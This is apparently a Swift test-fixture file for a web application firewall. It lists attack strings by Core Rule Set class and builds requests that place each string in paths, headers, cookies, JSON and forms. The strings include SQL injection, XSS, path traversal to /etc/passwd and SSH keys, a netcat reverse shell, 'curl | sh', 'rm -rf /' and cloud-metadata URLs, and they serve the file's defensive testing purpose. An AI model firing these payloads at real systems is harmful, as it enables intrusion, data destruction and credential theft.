import Firewall

/// Attacks of every class that the Core Rule Set knows, each as it stands in a value.
enum AttackCorpus {
    /// Where attacks of a class are usual.
    enum Place: Hashable, CaseIterable {
        case path, query, name, field, agent, referer, cookie, json, key, form
    }

    struct Class {
        let name: String
        /// Where the rule set stops them.
        let place: Place
        let attacks: [String]
    }

    static let classes = [
        Class(name: "921 protocol", place: .query, attacks: protocolAttacks), Class(name: "913 scanners", place: .agent, attacks: scanners),
        Class(name: "930 local files", place: .query, attacks: localFiles),
        Class(name: "931 remote files", place: .query, attacks: remoteFiles),
        Class(name: "932 commands", place: .json, attacks: commands), Class(name: "933 PHP", place: .json, attacks: php),
        Class(name: "934 Node", place: .json, attacks: node), Class(name: "941 scripts", place: .query, attacks: scripts),
        Class(name: "942 SQL", place: .query, attacks: sql), Class(name: "943 sessions", place: .json, attacks: sessions),
        Class(name: "944 Java", place: .json, attacks: java),
    ]

    private static let protocolAttacks = [
        "x\r\nContent-Type: text/html", "x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "x\r\n\r\n<html>",
        "x\rcontent-length: 0",
        "GET /admin HTTP/1.1", "POST /x HTTP/1.0", "a\r\nGET /internal HTTP/1.1\r\nHost: x", "delete /orders http/2", "<meta charset=x>",
        "HTTP/1.1 200 OK", "x http/0.9", "\n cookie: a", "\r\n host: evil", "\n x-forwarded-for: 1", "\r\n refresh : 0",
        "*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(password=*))", "bar)(cn=*))(&(a=b", "\r\nset-cookie:a=b", "put /x http/1.1",
        "head /x http/1.0", "patch /x http/1.1",
    ]
    private static let scanners = [
        "Nikto/2.1.6", "sqlmap/1.7.2#stable", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "WPScan v3.8", "gobuster/3.1.0",
        "dirbuster",
        "w3af.org", "Nessus SOAP", "OpenVAS 9", "masscan/1.3", "ZmEu", "havij", "whatweb/0.5", "netsparker", "arachni/v1.5",
        "acunetix-product",
        "zgrab/0.x", "Nuclei - Open-source project", "Fuzz Faster U Fool v1.3", "commix/v3", "grabber", "jaascois", "nmap-nse", "paros/3.2",
        "sysscan/1.0", "bsqlbf 2.7", "Detectify", "sqlninja", "webinspect", "nsauditor", "wfuzz/2.4", "absinthe", "get-minimal",
    ]
    private static let localFiles = [
        "../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "../../../proc/self/environ", "/.ssh/id_rsa",
        ".htaccess",
        ".bash_history", "/var/log/apache2/access.log", "....//....//etc/passwd", "file:///etc/passwd", "/etc/hosts", "/.git/config",
        "wp-config.php", "/boot.ini", "../", "..%2f..%2fetc%2fpasswd", "/proc/version", "/etc/group", ".htpasswd",
        "/usr/local/apache/conf/httpd.conf",
        "/./../x", "%c0%ae%c0%ae/x/../", "package.json", "/.aws/config", "yarn.lock", ".profile",
    ]
    private static let remoteFiles = [
        "http://10.0.0.1/shell.txt", "https://127.0.0.1/x", "ftp://192.168.0.1/a", "http://1.2.3.4/?", "file://1.1.1.1/x",
        "http://evil.example/shell.txt?", "https://evil.example/x.php??", "ftp://evil.example/a?", "ftps://10.1.1.1/", "HTTP://8.8.8.8",
        "http://evil.example/c99?", "http://x.example/r57.txt?", "http://169.254.169.254/latest/meta-data/", "https://192.0.2.1/a",
        "ftp://x?",
        "http://x.example?", "https://x?", "file:///x?", "http://[::1]/?", "http://198.51.100.7:8080/",
    ]
    private static let commands = [
        "; cat /etc/passwd", "| ls -la", "&& whoami", "`id`; uname -a", "$(cat x)", "; wget http://x", "| nc -e /bin/sh 1.2.3.4 1",
        "; ping -c 1 x",
        "|| curl x", "; bash -i", "; python -c x", "& netstat -an", "\n/bin/ls", "; sleep 5; ls", "bin/bash -c x", "/bin/sh", "${IFS}",
        "<(ls x)",
        "$((1+1))", "; rm -rf /; ls", "time ls", "ls -l", "bash -c id", "wget x", "curl http://x | sh", "env x", "() { :;}; echo", "() { x",
        "| dir c:",
        "& tasklist /v", "; net user", "Invoke-Expression x", "powershell.exe -enc x", "Get-Process", "New-Object Net.WebClient",
        "if exist x",
        "dev/tcp/1.2.3.4/80", "$HOME/x", "; system_profiler", "Start-Process x",
    ]
    private static let php = [
        "<?php phpinfo(); ?>", "<?= `x` ?>", "[php]x[/php]", "php://input", "php://filter/convert", "allow_url_include=1",
        "disable_functions = x",
        "auto_prepend_file=x", "$_GET['x']", "$_SERVER", "$GLOBALS[x]", "base64_decode", "file_get_contents('x')", "shell_exec('ls')",
        "call_user_func", "eval($x)", "system('ls')", "passthru('x')", "exec ('x')", "O:8:\"stdClass\":0:{}", "phar://x", "zip://x",
        "$x('y')",
        "${system}(x)", "(sy.(st).em)(x)", "[x](y)(z)", "gzinflate", "fsockopen", "<?x", "expect://id", "preg_replace('x','y')",
        "ReflectionFunction",
        "proc_open('x')", "popen('x')", "(string)'x'",
    ]
    private static let node = [
        "_$$ND_FUNC$$_function(){}", "new Function('x')", "eval('x')", "String.fromCharCode(1)", "function(){ x }", "this.constructor",
        "module.exports = x", "_js_function", "x=eval(y)", "new  Function (x)", "function ( ) {", "String . fromCharCode",
        "module.exports=1",
        "ZXZhbCgxKQ==", "dGhpcy5jb25zdHJ1Y3Rvcg==", "eval (a)", "this.constructor.constructor", "x;eval(1)", "bmV3IEZ1bmN0aW9uKDEp",
        "bW9kdWxlLmV4cG9ydHM9MQ==", "U3RyaW5nLmZyb21DaGFyQ29kZQ==", "ZXZhbCgx",
    ]
    private static let scripts = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=alert(1) x=\"", "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>", "<body onload=x>", "<a href=\"javascript:x()\">", "<object data=x>", "<embed src=x>",
        "<style>@import x</style>",
        "<meta http-equiv=refresh>", "<link href=x>", "<base href=x>", "<applet x>", "data:text/html,<script>x</script>", "document.cookie",
        "document.write(1)", "x.innerHTML=1", "window.location=x", "vbscript:x", "<!-- x", "-->", "<![CDATA[", "' onclick='x",
        "<script src=//x>",
        "<details open ontoggle=x>", "<x xlink:href=x>", "xmlns=x", "formaction=x", "\\u003cscript\\u003e", "<form action=x>", "![]+[]",
        "self[x]", "&lt;script&gt;", "<marquee onstart=x>", "javascript&colon;x", "j&#x61;vascript:x", "@import 'x'", ";base64",
    ]
    private static let sql = [
        "' OR 1=1--", "1 OR 1=1", "' UNION SELECT 1,2,3--", "1; DROP TABLE users", "admin'--", "1' AND '1'='1", "' or 'a'='a",
        "1 AND SLEEP(5)",
        "sleep(5)", "benchmark(1000000,md5(1))", "1 union all select null", "'; exec xp_cmdshell('dir')--", "1 waitfor delay '0:0:5'",
        "information_schema.tables",
        "select pg_sleep(5)", "1/*!union*/select", "sqlite_master", "pg_catalog", "' having 1=1", "1 group by 1", "1 order by 1",
        "1 procedure analyse()",
        "4294967295", "2147483648", "1e309", "x' and 1=1 #", "1) or (1=1", "\" or \"\"=\"", "[$ne]", "x'; shutdown--", "1 in (select 1)",
        "'||'x",
        "union select a from b", "select * from x where 1=1", "'; waitfor delay '0:0:9", "1 like 1", "current_user()", "database()",
        "' ; select 1",
        "into outfile 'x'", "'; declare @x int", "msysobjects", "1-or-1", "1 and 2", "x;select load_file(1)", "create function a returns",
    ]
    private static let sessions = [
        "document.cookie=\"a;expires=x\"", ".cookie=a;domain=b", "x.cookie ; expires =1", "http-equiv=set-cookie", "http-equiv: set-cookie",
        "a.cookie='b';domain=c", ".cookie;;expires=", "x.cookie=1; domain = y", "<meta http-equiv=\"set-cookie\">",
        "http-equiv  set-cookie",
    ]
    private static let java = [
        "java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.System", "java.io.File", "org.apache.struts", "com.opensymphony.xwork2",
        "javax.script.ScriptEngineManager", "java.beans.XMLDecode", "org.apache.commons.collections", "java.lang.Class",
        "java.io.FileWriter",
        "com.sun.org.apache.xalan", "org.omg.CORBA", "java.lang.Process", "getRuntime unmarshaller runtime", "clonetransformer runtime",
        "java.io.PrintStream", "java.lang.reflect.Method", "java.lang.StringBuilder", "runtime base64data", "java.lang.Object",
        "java.io.Reader",
    ]
}

extension AttackCorpus.Place {
    /// Requests with the attack in this place, the plainest first.
    func requests(_ attack: String) -> [WebRequest] {
        let path = "/api/v1/events"
        switch self {
        case .path: return [.get("\(path)/\(attack.percentEncoded)"), .get("\(path)/\(attack)")]
        case .query: return [.get("\(path)?after=\(attack.percentEncoded)"), .get("\(path)?after=\(attack)")]
        case .name: return [.get("\(path)?\(attack.percentEncoded)=1"), .get("\(path)?query=\(attack.percentEncoded)")]
        case .field: return [.get(path, [(name: "x-request-id", value: attack), (name: "accept-language", value: attack)])]
        case .agent: return [.get(path, [(name: "user-agent", value: attack)])]
        case .referer:
            return [.get(path, [(name: "referer", value: attack)]), .get(path, [(name: "referer", value: "https://a.example/\(attack)")])]
        case .cookie: return [.get(path, [(name: "cookie", value: "a=\(attack)")])]
        case .json:
            return [
                "{\"code\": \(attack.quoted)}", "{\"a\": [\(attack.quoted)]}", "{\"name\": \(attack.quoted)}", attack.quoted,
                "{\"email\": \(attack.quoted)}",
            ].map { .send(path, $0) }
        case .key: return [.send(path, "{\(attack.quoted): 1}")]
        case .form: return [.send(path, "a=\(attack.percentEncoded)", type: "application/x-www-form-urlencoded")]
        }
    }
}
